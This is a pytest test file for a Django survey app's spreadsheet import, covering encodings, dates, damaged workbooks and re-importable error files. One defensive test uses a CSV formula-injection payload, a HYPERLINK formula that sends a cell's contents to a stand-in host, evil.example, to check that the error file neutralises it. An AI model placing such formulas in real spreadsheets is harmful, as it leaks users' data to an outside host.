"""Spreadsheet imports, row by row: encodings, dates, error files that re-import."""

from __future__ import annotations

import csv
import datetime as dt

import pytest
import time_machine
from django.core.management import CommandError

from surveys.models import Response
from tests.intake.spreadsheet_helpers import EXPORTS, NOW, run, stored
from tickets.models import Ticket


def delighted_rows_then_one_russian_comment() -> bytes:
    """A Delighted export re-saved by Excel in Russia: English headers, 200 ASCII rows, then
    one comment in Russian, all in Windows-1251."""
    lines = [(EXPORTS / "delighted_export.csv").read_text().splitlines()[0]]
    for n in range(200):
        lines.append(
            f"9{n:07d},9,Fine,2026-11-20 06:15:03 UTC,2026-11-20 06:20:00 UTC,"
            f"77{n:05d},Customer {n},c{n}@example.com,nps,,"
        )
    lines.append(
        "88199999,3,Курьер опоздал,2026-11-20 07:00:00 UTC,2026-11-20 07:00:00 UTC,"
        "7799999,Ivan Petrov,ivan@example.com,nps,,"
    )
    return ("\r\n".join(lines) + "\r\n").encode("cp1251")


@time_machine.travel(NOW, tick=False)
def test_windows_1251_file_with_english_headers_keeps_its_russian_comment(
    tmp_path, survey, spreadsheet_source
):
    path = tmp_path / "delighted_excel_ru.csv"
    path.write_bytes(delighted_rows_then_one_russian_comment())
    output, failed = run(path, "--source", "exports", "--survey", "nps-2026")
    assert not failed, output
    assert "(cp1251)" in output
    assert Response.objects.count() == 201
    assert stored()["88199999"].comment == "Курьер опоздал"


@time_machine.travel(NOW, tick=False)
def test_encoding_option_names_the_files_encoding(tmp_path, survey, spreadsheet_source):
    path = tmp_path / "export.csv"
    path.write_bytes("external_id,score,comment\nr-1,5,Déjà vu\n".encode("cp1252"))
    output, failed = run(
        path, "--source", "exports", "--survey", "nps-2026", "--encoding", "cp1252"
    )
    assert not failed, output
    assert stored()["r-1"].comment == "Déjà vu"
    with pytest.raises(CommandError, match="encoding"):
        run(path, "--source", "exports", "--encoding", "no-such-codec")


@time_machine.travel(NOW, tick=False)
def test_typeform_submit_date_utc_column_ignores_the_import_time_zone(survey, spreadsheet_source):
    output, failed = run(
        EXPORTS / "typeform_export.xlsx",
        "--source",
        "exports",
        "--survey",
        "nps-2026",
        "--time-zone",
        "Europe/Moscow",
    )
    assert not failed, output
    answer = stored()["k3p0q9x1c7h2a8b4"]
    assert answer.responded_at == dt.datetime(2026, 11, 20, 9, 12, 44, tzinfo=dt.UTC)


@time_machine.travel(NOW, tick=False)
def test_contract_file_error_file_keeps_every_column_of_the_file(
    tmp_path, survey, spreadsheet_source
):
    text = (EXPORTS / "contract_export.tsv").read_text(encoding="utf-8")
    lines = text.splitlines()
    lines[0] += "\tmeta_order_id"
    lines[1] += "\tA-101"
    lines[2] = lines[2].replace("\t7\t", "\tseven\t") + "\tA-102"
    source_file = tmp_path / "contract.tsv"
    source_file.write_text("\n".join(lines) + "\n", encoding="utf-8")
    errors = tmp_path / "errors.csv"
    output, failed = run(source_file, "--source", "exports", "--errors", errors)
    assert failed
    rows = list(csv.DictReader(errors.open(encoding="utf-8")))
    assert list(rows[0]) == [*lines[0].split("\t"), "_row", "_column", "_reason"]
    assert (rows[0]["survey"], rows[0]["channel"], rows[0]["meta_order_id"]) == (
        "nps-2026",
        "email",
        "A-102",
    )
    assert (rows[0]["score"], rows[0]["_row"], rows[0]["_column"]) == ("seven", "3", "score")
    rows[0]["score"] = "7"
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    output, failed = run(fixed, "--source", "exports", "--time-zone", "Europe/Moscow")
    assert not failed, output
    answer = stored()["crm-102"]
    assert (answer.score, answer.channel, answer.metadata["order_id"]) == (7, "email", "A-102")


def test_an_xlsx_with_a_damaged_sheet_is_refused_whole(tmp_path, survey, spreadsheet_source):
    """The workbook opens (read-only mode reads sheets lazily) but its sheet is cut short."""
    import zipfile

    damaged = tmp_path / "typeform_damaged.xlsx"
    with (
        zipfile.ZipFile(EXPORTS / "typeform_export.xlsx") as source,
        zipfile.ZipFile(damaged, "w") as out,
    ):
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename.startswith("xl/worksheets/sheet"):
                data = data[: len(data) // 2]
            out.writestr(entry, data)
    with pytest.raises(CommandError, match="XLSX"):
        run(damaged, "--source", "exports", "--survey", "nps-2026")
    assert Response.objects.count() == 0


@time_machine.travel(NOW, tick=False)
def test_error_file_cells_cannot_run_as_formulas_and_reimport_as_written(
    tmp_path, survey, spreadsheet_source
):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = (
        "external_id,score,comment,customer_email\n"
        f'r-1,eleven,"{formula.replace(chr(34), chr(34) * 2)}",a@example.com\n'
        "r-2,+7,@SUM(1),b@example.com\n"
    )
    source_file = tmp_path / "answers.csv"
    source_file.write_text(text, encoding="utf-8")
    errors = tmp_path / "errors.csv"
    output, failed = run(
        source_file, "--source", "exports", "--survey", "nps-2026", "--errors", errors
    )
    rows = list(csv.DictReader(errors.open(encoding="utf-8")))
    assert rows[0]["comment"] == "'" + formula
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
    rows[0]["score"] = "1"
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    output, failed = run(fixed, "--source", "exports", "--survey", "nps-2026")
    assert stored()["r-1"].comment == formula


DAY_FIRST = (
    "Response ID,Score,Date,Email\n"
    "r-1,9,05/11/2026 10:00,a@example.com\n"
    "r-2,8,20/11/2026 10:00,b@example.com\n"
)
AMBIGUOUS = (
    "Response ID,Score,Date,Email\n"
    "r-1,9,05/11/2026 10:00,a@example.com\n"
    "r-2,8,06/11/2026 10:00,b@example.com\n"
)


@time_machine.travel(NOW, tick=False)
def test_slash_dates_with_a_day_over_12_are_read_day_first(tmp_path, survey, spreadsheet_source):
    path = tmp_path / "answers.csv"
    path.write_text(DAY_FIRST, encoding="utf-8")
    output, failed = run(path, "--source", "exports", "--survey", "nps-2026")
    assert not failed, output
    answers = stored()
    assert answers["r-1"].responded_at == dt.datetime(2026, 11, 5, 10, 0, tzinfo=dt.UTC)
    assert answers["r-2"].responded_at == dt.datetime(2026, 11, 20, 10, 0, tzinfo=dt.UTC)


@time_machine.travel(NOW, tick=False)
def test_only_ambiguous_slash_dates_need_the_order_named(tmp_path, survey, spreadsheet_source):
    path = tmp_path / "answers.csv"
    path.write_text(AMBIGUOUS, encoding="utf-8")
    with pytest.raises(CommandError, match="--date-order"):
        run(path, "--source", "exports", "--survey", "nps-2026")
    assert Response.objects.count() == 0
    output, failed = run(path, "--source", "exports", "--survey", "nps-2026", "--date-order", "dmy")
    assert not failed, output
    assert stored()["r-2"].responded_at == dt.datetime(2026, 11, 6, 10, 0, tzinfo=dt.UTC)


@time_machine.travel(NOW, tick=False)
def test_rows_in_several_engine_chunks_store_as_one(survey, spreadsheet_source, monkeypatch):
    monkeypatch.setattr("intake.spreadsheet_import.CHUNK", 1)
    args = ("--source", "exports", "--survey", "nps-2026")
    output, failed = run(EXPORTS / "google_forms_export.csv", *args)
    assert not failed, output
    assert "2 created" in output
    output, failed = run(EXPORTS / "google_forms_export.csv", *args)
    assert "0 created, 2 duplicates" in output
    assert Response.objects.count() == 2
    assert Ticket.objects.count() == Response.objects.filter(category="detractor").count()
